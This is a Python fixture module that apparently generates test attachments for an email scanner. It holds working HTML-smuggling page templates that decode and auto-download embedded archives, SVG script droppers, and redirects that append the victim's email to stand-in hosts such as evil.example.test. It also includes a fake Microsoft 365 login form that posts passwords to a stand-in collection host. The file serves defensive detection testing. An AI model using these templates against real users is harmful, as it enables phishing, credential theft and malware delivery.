"""HTML and SVG attachments: one message per finding id (merged into `cases.CASES`).

The pages are shaped after HTML-smuggling and phishing attachments seen since 2022; every
payload is a harmless stand-in (a PE stub, a shortcut from `testkit/payloads.py`).
"""

from __future__ import annotations

import base64
import io
import os
import zipfile

from cases import Case, with_attachment
from cases_payloads import dropper_lnk

from mailcheck.limits import DEFAULT
from testkit.payloads import build_pe_stub

HTML = "text/html"
SVG = "image/svg+xml"


def zip_of(*members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def exe_zip() -> bytes:
    # Random bytes keep the archive large enough to be a file, as real payloads are.
    return zip_of(("invoice.exe", build_pe_stub()), ("readme.dat", os.urandom(4096)))


def lnk_zip() -> bytes:
    return zip_of(("invoice.lnk", dropper_lnk()), ("pad.dat", os.urandom(4096)))


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def blob_page(payload: bytes, name: str = "invoice.zip") -> bytes:
    """The classic shape: base64 string, atob, Uint8Array, Blob, a link clicked by script."""
    return f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Invoice</title></head>
<body><p>Your document is downloading...</p>
<script>
var file = '{b64(payload)}';
function b64ToBytes(s) {{
  var bin = window.atob(s);
  var bytes = new Uint8Array(bin.length);
  for (var i = 0; i < bin.length; i++) {{ bytes[i] = bin.charCodeAt(i); }}
  return bytes;
}}
var data = b64ToBytes(file);
var blob = new Blob([data], {{type: 'octet/stream'}});
var a = document.createElement('a');
document.body.appendChild(a);
a.style = 'display: none';
var url = window.URL.createObjectURL(blob);
a.href = url;
a.download = '{name}';
a.click();
window.URL.revokeObjectURL(url);
</script></body></html>
""".encode()


def ms_save_page(payload: bytes, name: str = "scan.zip") -> bytes:
    """Internet Explorer's path, the string split into concatenated literals."""
    text = b64(payload)
    chunks = " +\n    ".join(f'"{text[i : i + 76]}"' for i in range(0, len(text), 76))
    return f"""<html><body><script>
var d = {chunks};
var raw = atob(d); var u = new Uint8Array(raw.length);
for (var i = 0; i < raw.length; i++) u[i] = raw.charCodeAt(i);
var b = new Blob([u], {{type: "application/zip"}});
if (window.navigator.msSaveOrOpenBlob) window.navigator.msSaveOrOpenBlob(b, "{name}");
</script></body></html>""".encode()


def data_uri_page(payload: bytes, name: str = "invoice.zip") -> bytes:
    return (
        "<html><body onload=\"document.getElementById('d').click()\">"
        f'<a id="d" href="data:application/zip;base64,{b64(payload)}" download="{name}">'
        "download</a></body></html>"
    ).encode()


def char_code_page(payload: bytes, name: str = "invoice.zip") -> bytes:
    codes = ",".join(str(b) for b in payload)
    return f"""<html><body><script>
var arr = new Uint8Array([{codes}]);
var blob = new Blob([arr]);
var link = document.createElement("a");
link.href = URL.createObjectURL(blob);
link.download = "{name}";
link.click();
</script></body></html>""".encode()


def xor_page() -> bytes:
    """The shape without anything that decodes: the data is XORed with a key."""
    junk = bytes(b ^ 0x5A for b in os.urandom(8192))
    return f"""<html><body><script>
var k = 90; var s = atob("{b64(junk)}"); var o = new Uint8Array(s.length);
for (var i = 0; i < s.length; i++) o[i] = s.charCodeAt(i) ^ k;
var u = URL.createObjectURL(new Blob([o])); var a = document.createElement("a");
a.href = u; a.download = "report"; a.click();
</script></body></html>""".encode()


def refresh_page(url: str = "https://login.example-phish.test/o365/?e=taro@example.co.jp") -> bytes:
    return (
        "<html><head>"
        f'<meta http-equiv="refresh" content="0; url={url}">'
        "</head><body>Loading your document...</body></html>"
    ).encode()


def script_redirect_page() -> bytes:
    return b"""<html><body><script>
var e = "taro@example.co.jp";
window.location.href = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUudGVzdC8=") + "?u=" + e;
</script></body></html>"""


def login_page(action: str = "https://collect.example-phish.test/post.php") -> bytes:
    return f"""<!DOCTYPE html><html><head><title>Microsoft 365</title></head><body>
<div class="box"><h1>Sign in to view the shared document</h1>
<form method="POST" action="{action}">
<input type="email" name="login" value="taro@example.co.jp">
<input type="password" name="passwd" placeholder="Password">
<button type="submit">Sign in</button>
</form></div></body></html>""".encode()


def svg_script(target: str = "https://evil.example.test/") -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" viewBox="0 0 200 100">
<rect width="200" height="100" fill="#fff"/><text x="10" y="50">Loading...</text>
<script type="text/javascript"><![CDATA[
window.location.href = "{target}";
]]></script>
</svg>""".encode()


def svg_smuggling(payload: bytes) -> bytes:
    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<script><![CDATA[
var b = atob("{b64(payload)}"); var u = new Uint8Array(b.length);
for (var i = 0; i < b.length; i++) u[i] = b.charCodeAt(i);
var l = document.createElementNS("http://www.w3.org/1999/xhtml", "a");
l.href = URL.createObjectURL(new Blob([u])); l.download = "invoice.zip"; l.click();
]]></script></svg>""".encode()


CASES: dict[str, Case] = {
    "attachment.html_smuggling": lambda: (
        with_attachment(blob_page(exe_zip()), "invoice.html", HTML),
        DEFAULT,
    ),
    "attachment.html_smuggling_suspected": lambda: (
        with_attachment(xor_page(), "document.html", HTML),
        DEFAULT,
    ),
    "attachment.html_redirect": lambda: (
        with_attachment(refresh_page(), "voicemail.html", HTML),
        DEFAULT,
    ),
    "attachment.html_redirect_meta": lambda: (
        with_attachment(refresh_page("https://docs.example.com/moved/"), "moved.html", HTML),
        DEFAULT,
    ),
    "attachment.html_credential_form": lambda: (
        with_attachment(login_page(), "shared_document.html", HTML),
        DEFAULT,
    ),
    "attachment.svg_script": lambda: (
        with_attachment(svg_script(), "logo.svg", SVG),
        DEFAULT,
    ),
}
